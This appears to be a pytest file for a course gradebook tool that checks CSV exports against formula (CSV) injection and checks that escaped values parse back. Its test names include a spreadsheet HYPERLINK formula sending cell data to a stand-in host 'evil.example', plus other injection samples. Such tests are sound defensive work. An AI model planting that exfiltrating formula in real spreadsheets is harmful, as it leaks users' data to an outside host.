"""Every CSV ``course`` writes is safe to open in a spreadsheet and parses back to what it holds."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from gradebook_fixtures import add_student, grade, make_course

from course_utils.ta import csvsafe
from course_utils.ta.lms import export
from course_utils.ta.roster import import_roster

PACKAGE = Path(__file__).resolve().parents[1] / "course_utils"
FORMULA = ("=", "+", "-", "@", "\t", "\r")
NAMES = [
    "-2+3",
    "+1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(A1:A9)",
    "Smith, Jr.",
    'O"Neil',
    "two\nlines",
    "'quoted",
]
IDS = ["a,b", 'q"uote', "new\nline", "=cmd", "+1", "-2", "@x", "plain"]


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_escape_text_not_numbers():
    for text in NAMES + IDS + ["\tTAB", "\rCR", "", "ok"]:
        cell = csvsafe.escape(text)
        assert not cell.startswith(FORMULA)
        assert csvsafe.unescape(cell) == text
    for number in (-1.5, 0, 3, 12.0, True):
        assert csvsafe.escape(number) == number
    assert csvsafe.escape(None) is None
    assert parse(csvsafe.to_text([["-1.5", -1.5]])) == [["'-1.5", "-1.5"]]


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = make_course(tmp_path_factory.mktemp("csv") / "course")
    roster = folder / "class.csv"
    with open(roster, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "first_name", "last_name", "email"])
        for number, (student, name) in enumerate(zip(IDS, NAMES, strict=True)):
            writer.writerow([student, name, name[::-1], f"s{number}@example.org"])
    assert import_roster(folder, roster) == IDS
    add_student(folder, "plain", first_name="\tTAB", last_name="\rCR")  # the roster strips these
    for student in IDS:
        grade(folder, student, "lab1_onehot", 0.0, penalty=1.5)  # score: -1.5, a number
        grade(folder, student, "lab2_cbow", 10.0)
    return folder


def cells(table: list[list[str]]) -> list[str]:
    return [cell for row in table for cell in row]


@pytest.mark.parametrize("fmt, key", [("csv", ""), ("canvas", ""), ("moodle", "idnumber")])
def test_no_cell_is_a_formula_and_all_parse_back(root, fmt, key):
    table = parse(export(root, None, None, fmt, key or "email").text)
    for cell in cells(table):
        if cell.startswith(FORMULA):
            float(cell)  # only numbers (the score -1.5) may start so
    assert "-1.5" in cells(table)
    back = {csvsafe.unescape(cell) for cell in cells(table)}
    people = [(n, n[::-1]) for n in NAMES[:-1]] + [("\tTAB", "\rCR")]  # plain's, not 'quoted
    if fmt == "canvas":  # Canvas's Student column: "Last, First"
        assert {f"{last}, {first}" for first, last in people} <= back
    else:
        assert {name for pair in people for name in pair} <= back
    assert set(IDS) <= back
    widths = {len(row) for row in table}
    assert len(widths) == 1, "a newline or comma inside a cell broke a row"


def test_the_grades_csv_rows_are_the_students(root):
    table = parse(export(root, None, ["lab1_onehot"]).text)
    header, *rows = table
    column = {name: header.index(name) for name in ("student_id", "first_name", "score")}
    got = {csvsafe.unescape(r[column["student_id"]]): r for r in rows}
    assert sorted(got) == sorted(IDS)
    for student, name in zip(IDS, NAMES, strict=True):
        if student != "plain":
            assert csvsafe.unescape(got[student][column["first_name"]]) == name
        assert got[student][column["score"]] == "-1.5"


def test_every_csv_goes_through_the_helper():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if path.name != "csvsafe.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], "write CSV with course_utils.ta.csvsafe"
